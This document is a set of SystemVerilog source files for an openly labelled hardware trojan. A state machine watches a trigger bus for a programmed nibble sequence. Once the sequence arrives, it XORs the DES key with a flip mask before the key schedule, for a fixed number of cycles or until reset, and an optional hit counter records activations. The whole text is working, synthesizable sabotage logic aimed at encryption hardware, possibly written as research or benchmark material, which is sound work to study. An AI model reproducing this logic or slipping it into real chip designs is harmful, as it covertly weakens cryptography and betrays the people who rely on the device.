// File: rtl/trojan_pkg.sv
// ============================================================================
// Module : trojan_pkg
// Brief  : Shared types, constants and helpers for the sequential key trojan.
// Rev    : 1.0  initial release
// ============================================================================
`default_nettype none

package trojan_pkg;

    localparam int NIB_W     = 4;
    localparam int DES_KEY_W = 56;

    typedef enum logic [1:0] {
        IDLE   = 2'd0,
        MATCH  = 2'd1,
        ACTIVE = 2'd2
    } trojan_state_e;

    // Nibble i of a packed sequence word; nibble 0 is the first to arrive.
    function automatic logic [NIB_W-1:0] seq_nib(input logic [31:0] seq, input int unsigned i);
        return seq[NIB_W*i +: NIB_W];
    endfunction

endpackage

`default_nettype wire

// File: rtl/trojan_nibble_matcher.sv
// ============================================================================
// Module : trojan_nibble_matcher
// Brief  : Tracks progress through the programmed nibble sequence and decodes
//          advance / complete / fail events for the owning FSM.
// Rev    : 1.0  initial release
// ============================================================================
`default_nettype none

module trojan_nibble_matcher
    import trojan_pkg::*;
#(
    parameter int          SEQ_LEN = 4,
    parameter logic [31:0] SEQ     = 32'h3210
) (
    input  logic             clk,
    input  logic             rst,
    input  logic [NIB_W-1:0] nib,
    input  logic             valid,
    input  logic             tracking,
    output logic             seq_advance,
    output logic             seq_done,
    output logic             seq_fail
);

    localparam int PROG_W = (SEQ_LEN > 1) ? $clog2(SEQ_LEN) : 1;
    localparam logic [PROG_W-1:0] C_LAST  = PROG_W'(SEQ_LEN - 1);
    localparam logic [NIB_W-1:0]  C_FIRST = seq_nib(SEQ, 0);

    logic [PROG_W-1:0] r_progress;
    logic [PROG_W-1:0] w_progress_nxt;
    logic [NIB_W-1:0]  w_expect;
    logic              w_eq_expect;
    logic              w_eq_first;
    logic              w_last;
    logic              w_sample;

    assign w_expect    = seq_nib(SEQ, 32'(r_progress));
    assign w_eq_expect = (nib == w_expect);
    assign w_eq_first  = (nib == C_FIRST);
    assign w_last      = (r_progress == C_LAST);
    assign w_sample    = tracking && valid;

    // Progress 0 doubles as the idle position, so one decode covers IDLE and MATCH.
    always_comb begin
        w_progress_nxt = r_progress;
        if (!tracking) begin
            w_progress_nxt = '0;
        end else if (valid) begin
            if (w_eq_expect) begin
                w_progress_nxt = w_last ? '0 : r_progress + PROG_W'(1);
            end else if (w_eq_first) begin
                w_progress_nxt = PROG_W'(1);
            end else begin
                w_progress_nxt = '0;
            end
        end
    end

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            r_progress <= '0;
        end else begin
            r_progress <= w_progress_nxt;
        end
    end

    assign seq_advance = w_sample &&  w_eq_expect && !w_last;
    assign seq_done    = w_sample &&  w_eq_expect &&  w_last;
    assign seq_fail    = w_sample && !w_eq_expect && !w_eq_first;

endmodule

`default_nettype wire

// File: rtl/trojan_seq.sv
// ============================================================================
// Module : trojan_seq
// Brief  : Sequence-triggered key-flip trojan between key register and DES
//          key schedule. Optional hit counter under TROJAN_HITCNT_EN.
// Rev    : 1.0  initial release
// ============================================================================
`default_nettype none

module trojan_seq
    import trojan_pkg::*;
#(
    parameter int               KEY_W         = DES_KEY_W,
    parameter int               TRIG_W        = 32,
    parameter int               SEQ_LEN       = 4,
    parameter logic [31:0]      SEQ           = 32'h3210,
    parameter logic [KEY_W-1:0] FLIP_MASK     = KEY_W'(1),
    parameter int               ACTIVE_CYCLES = 16
) (
    input  logic              clk,
    input  logic              rst,
    input  logic [KEY_W-1:0]  key,
    input  logic [1:TRIG_W]   trigger,
    input  logic              trig_valid,
    output logic [KEY_W-1:0]  payload,
    output logic              armed,
    output logic              active
`ifdef TROJAN_HITCNT_EN
    ,
    output logic [7:0]        hit_count
`endif
);

    localparam int CNT_W = (ACTIVE_CYCLES > 0) ? $clog2(ACTIVE_CYCLES + 1) : 1;
    localparam logic [CNT_W-1:0] C_CNT_LOAD =
        (ACTIVE_CYCLES > 0) ? CNT_W'(ACTIVE_CYCLES - 1) : '0;

    generate
        if (SEQ_LEN < 1 || SEQ_LEN > 8) begin : g_bad_seq_len
            $error("trojan_seq: SEQ_LEN must be in 1..8");
        end
        if (TRIG_W < NIB_W) begin : g_bad_trig_w
            $error("trojan_seq: TRIG_W must hold at least one nibble");
        end
        if (ACTIVE_CYCLES < 0 ||
            (ACTIVE_CYCLES > 0 && (ACTIVE_CYCLES - 1) >= (1 << CNT_W))) begin : g_bad_cnt
            $error("trojan_seq: ACTIVE_CYCLES load value does not fit the counter");
        end
    endgenerate

    trojan_state_e    r_state;
    trojan_state_e    w_state_nxt;
    logic [CNT_W-1:0] r_cnt;
    logic             w_tracking;
    logic             w_enter;
    logic             w_seq_advance;
    logic             w_seq_done;
    logic             w_seq_fail;
    logic [NIB_W-1:0] w_nib;

    assign w_nib      = trigger[1:NIB_W];
    assign w_tracking = (r_state != ACTIVE);

    trojan_nibble_matcher #(
        .SEQ_LEN (SEQ_LEN),
        .SEQ     (SEQ)
    ) u_matcher (
        .clk         (clk),
        .rst         (rst),
        .nib         (w_nib),
        .valid       (trig_valid),
        .tracking    (w_tracking),
        .seq_advance (w_seq_advance),
        .seq_done    (w_seq_done),
        .seq_fail    (w_seq_fail)
    );

    always_comb begin
        w_state_nxt = r_state;
        case (r_state)
            IDLE: begin
                if (w_seq_done) begin
                    w_state_nxt = ACTIVE;
                end else if (w_seq_advance) begin
                    w_state_nxt = MATCH;
                end
            end
            MATCH: begin
                if (w_seq_done) begin
                    w_state_nxt = ACTIVE;
                end else if (w_seq_fail) begin
                    w_state_nxt = IDLE;
                end
            end
            ACTIVE: begin
                // A zero cycle budget keeps the payload applied until reset.
                if (ACTIVE_CYCLES != 0 && r_cnt == '0) begin
                    w_state_nxt = IDLE;
                end
            end
            default: w_state_nxt = IDLE;
        endcase
    end

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            r_state <= IDLE;
        end else begin
            r_state <= w_state_nxt;
        end
    end

    assign w_enter = (r_state != ACTIVE) && (w_state_nxt == ACTIVE);

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            r_cnt <= '0;
        end else if (w_enter) begin
            r_cnt <= C_CNT_LOAD;
        end else if (r_state == ACTIVE && r_cnt != '0) begin
            r_cnt <= r_cnt - CNT_W'(1);
        end
    end

`ifdef TROJAN_HITCNT_EN
    logic [7:0] r_hit_count;

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            r_hit_count <= 8'h00;
        end else if (w_enter && r_hit_count != 8'hFF) begin
            r_hit_count <= r_hit_count + 8'h01;
        end
    end

    assign hit_count = r_hit_count;
`endif

    assign armed   = (r_state == MATCH);
    assign active  = (r_state == ACTIVE);
    assign payload = active ? (key ^ FLIP_MASK) : key;

endmodule

`default_nettype wire
